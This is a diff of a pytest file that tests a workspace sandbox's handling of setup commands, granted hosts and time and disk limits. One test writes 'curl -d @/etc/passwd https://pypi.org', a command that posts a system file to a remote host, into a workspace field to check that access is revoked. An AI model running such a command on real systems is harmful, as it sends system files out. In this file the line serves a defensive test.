@@ -31,7 +31,7 @@ from loops.workspaces.copying import WorkspaceElsewhere
 from tests import factories as make
 from tests.unit.tools.harness import reachable
 
-pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.spec("J4", "I7")]
+pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.spec("J4", "I7", "S4")]
 MAKE = "mkdir -p .venv/bin && printf '#!/bin/sh\\necho tool' > .venv/bin/tool && chmod +x .venv/bin/tool"
 LEVELS = [capability.FULL, capability.CONFINED]
 
@@ -197,7 +197,7 @@ def test_an_environment_finds_the_code_of_each_copy(shop: Shop, level: int) -> N
 @pytest.mark.parametrize(
     ("command", "why"),
     [
-        ("true", "made nothing"),
+        ("true", "no new file"),
         ("sleep 100 & wait", "time limit"),
         ("head -c 50M /dev/zero > big; sleep 2", "the workspace holds 52429"),
         ("read -r answer && mkdir .venv", "exit code 1"),
@@ -245,12 +245,15 @@ class TestWhoMay:
         assert shop.workspace.granted_hosts, "as it was is no change"
 
     @pytest.mark.parametrize("what", ["setup_command", "path"])
-    def test_it_ends_with_the_command_and_the_folder_that_it_was_for(self, shop: Shop, what: str) -> None:
+    def test_it_ends_with_the_command_and_the_folder_that_it_was_for(
+        self, shop: Shop, monkeypatch: pytest.MonkeyPatch, what: str
+    ) -> None:
         """By whatever door they are changed."""
         shop.says(MAKE, ["pypi.org"])
         Workspace.objects.filter(pk=shop.workspace.pk).update(**{what: "curl -d @/etc/passwd https://pypi.org"})
         shop.workspace.refresh_from_db()
-        assert shop.workspace.granted_hosts == []
+        monkeypatch.setattr(copies, "refusal", lambda workspace: "")
+        assert setups.run(actor=shop.operator, workspace=shop.workspace).hosts == []
 
     def test_who_ends_it_by_another_command_is_told(self, shop: Shop) -> None:
         shop.says(MAKE, ["pypi.org"])
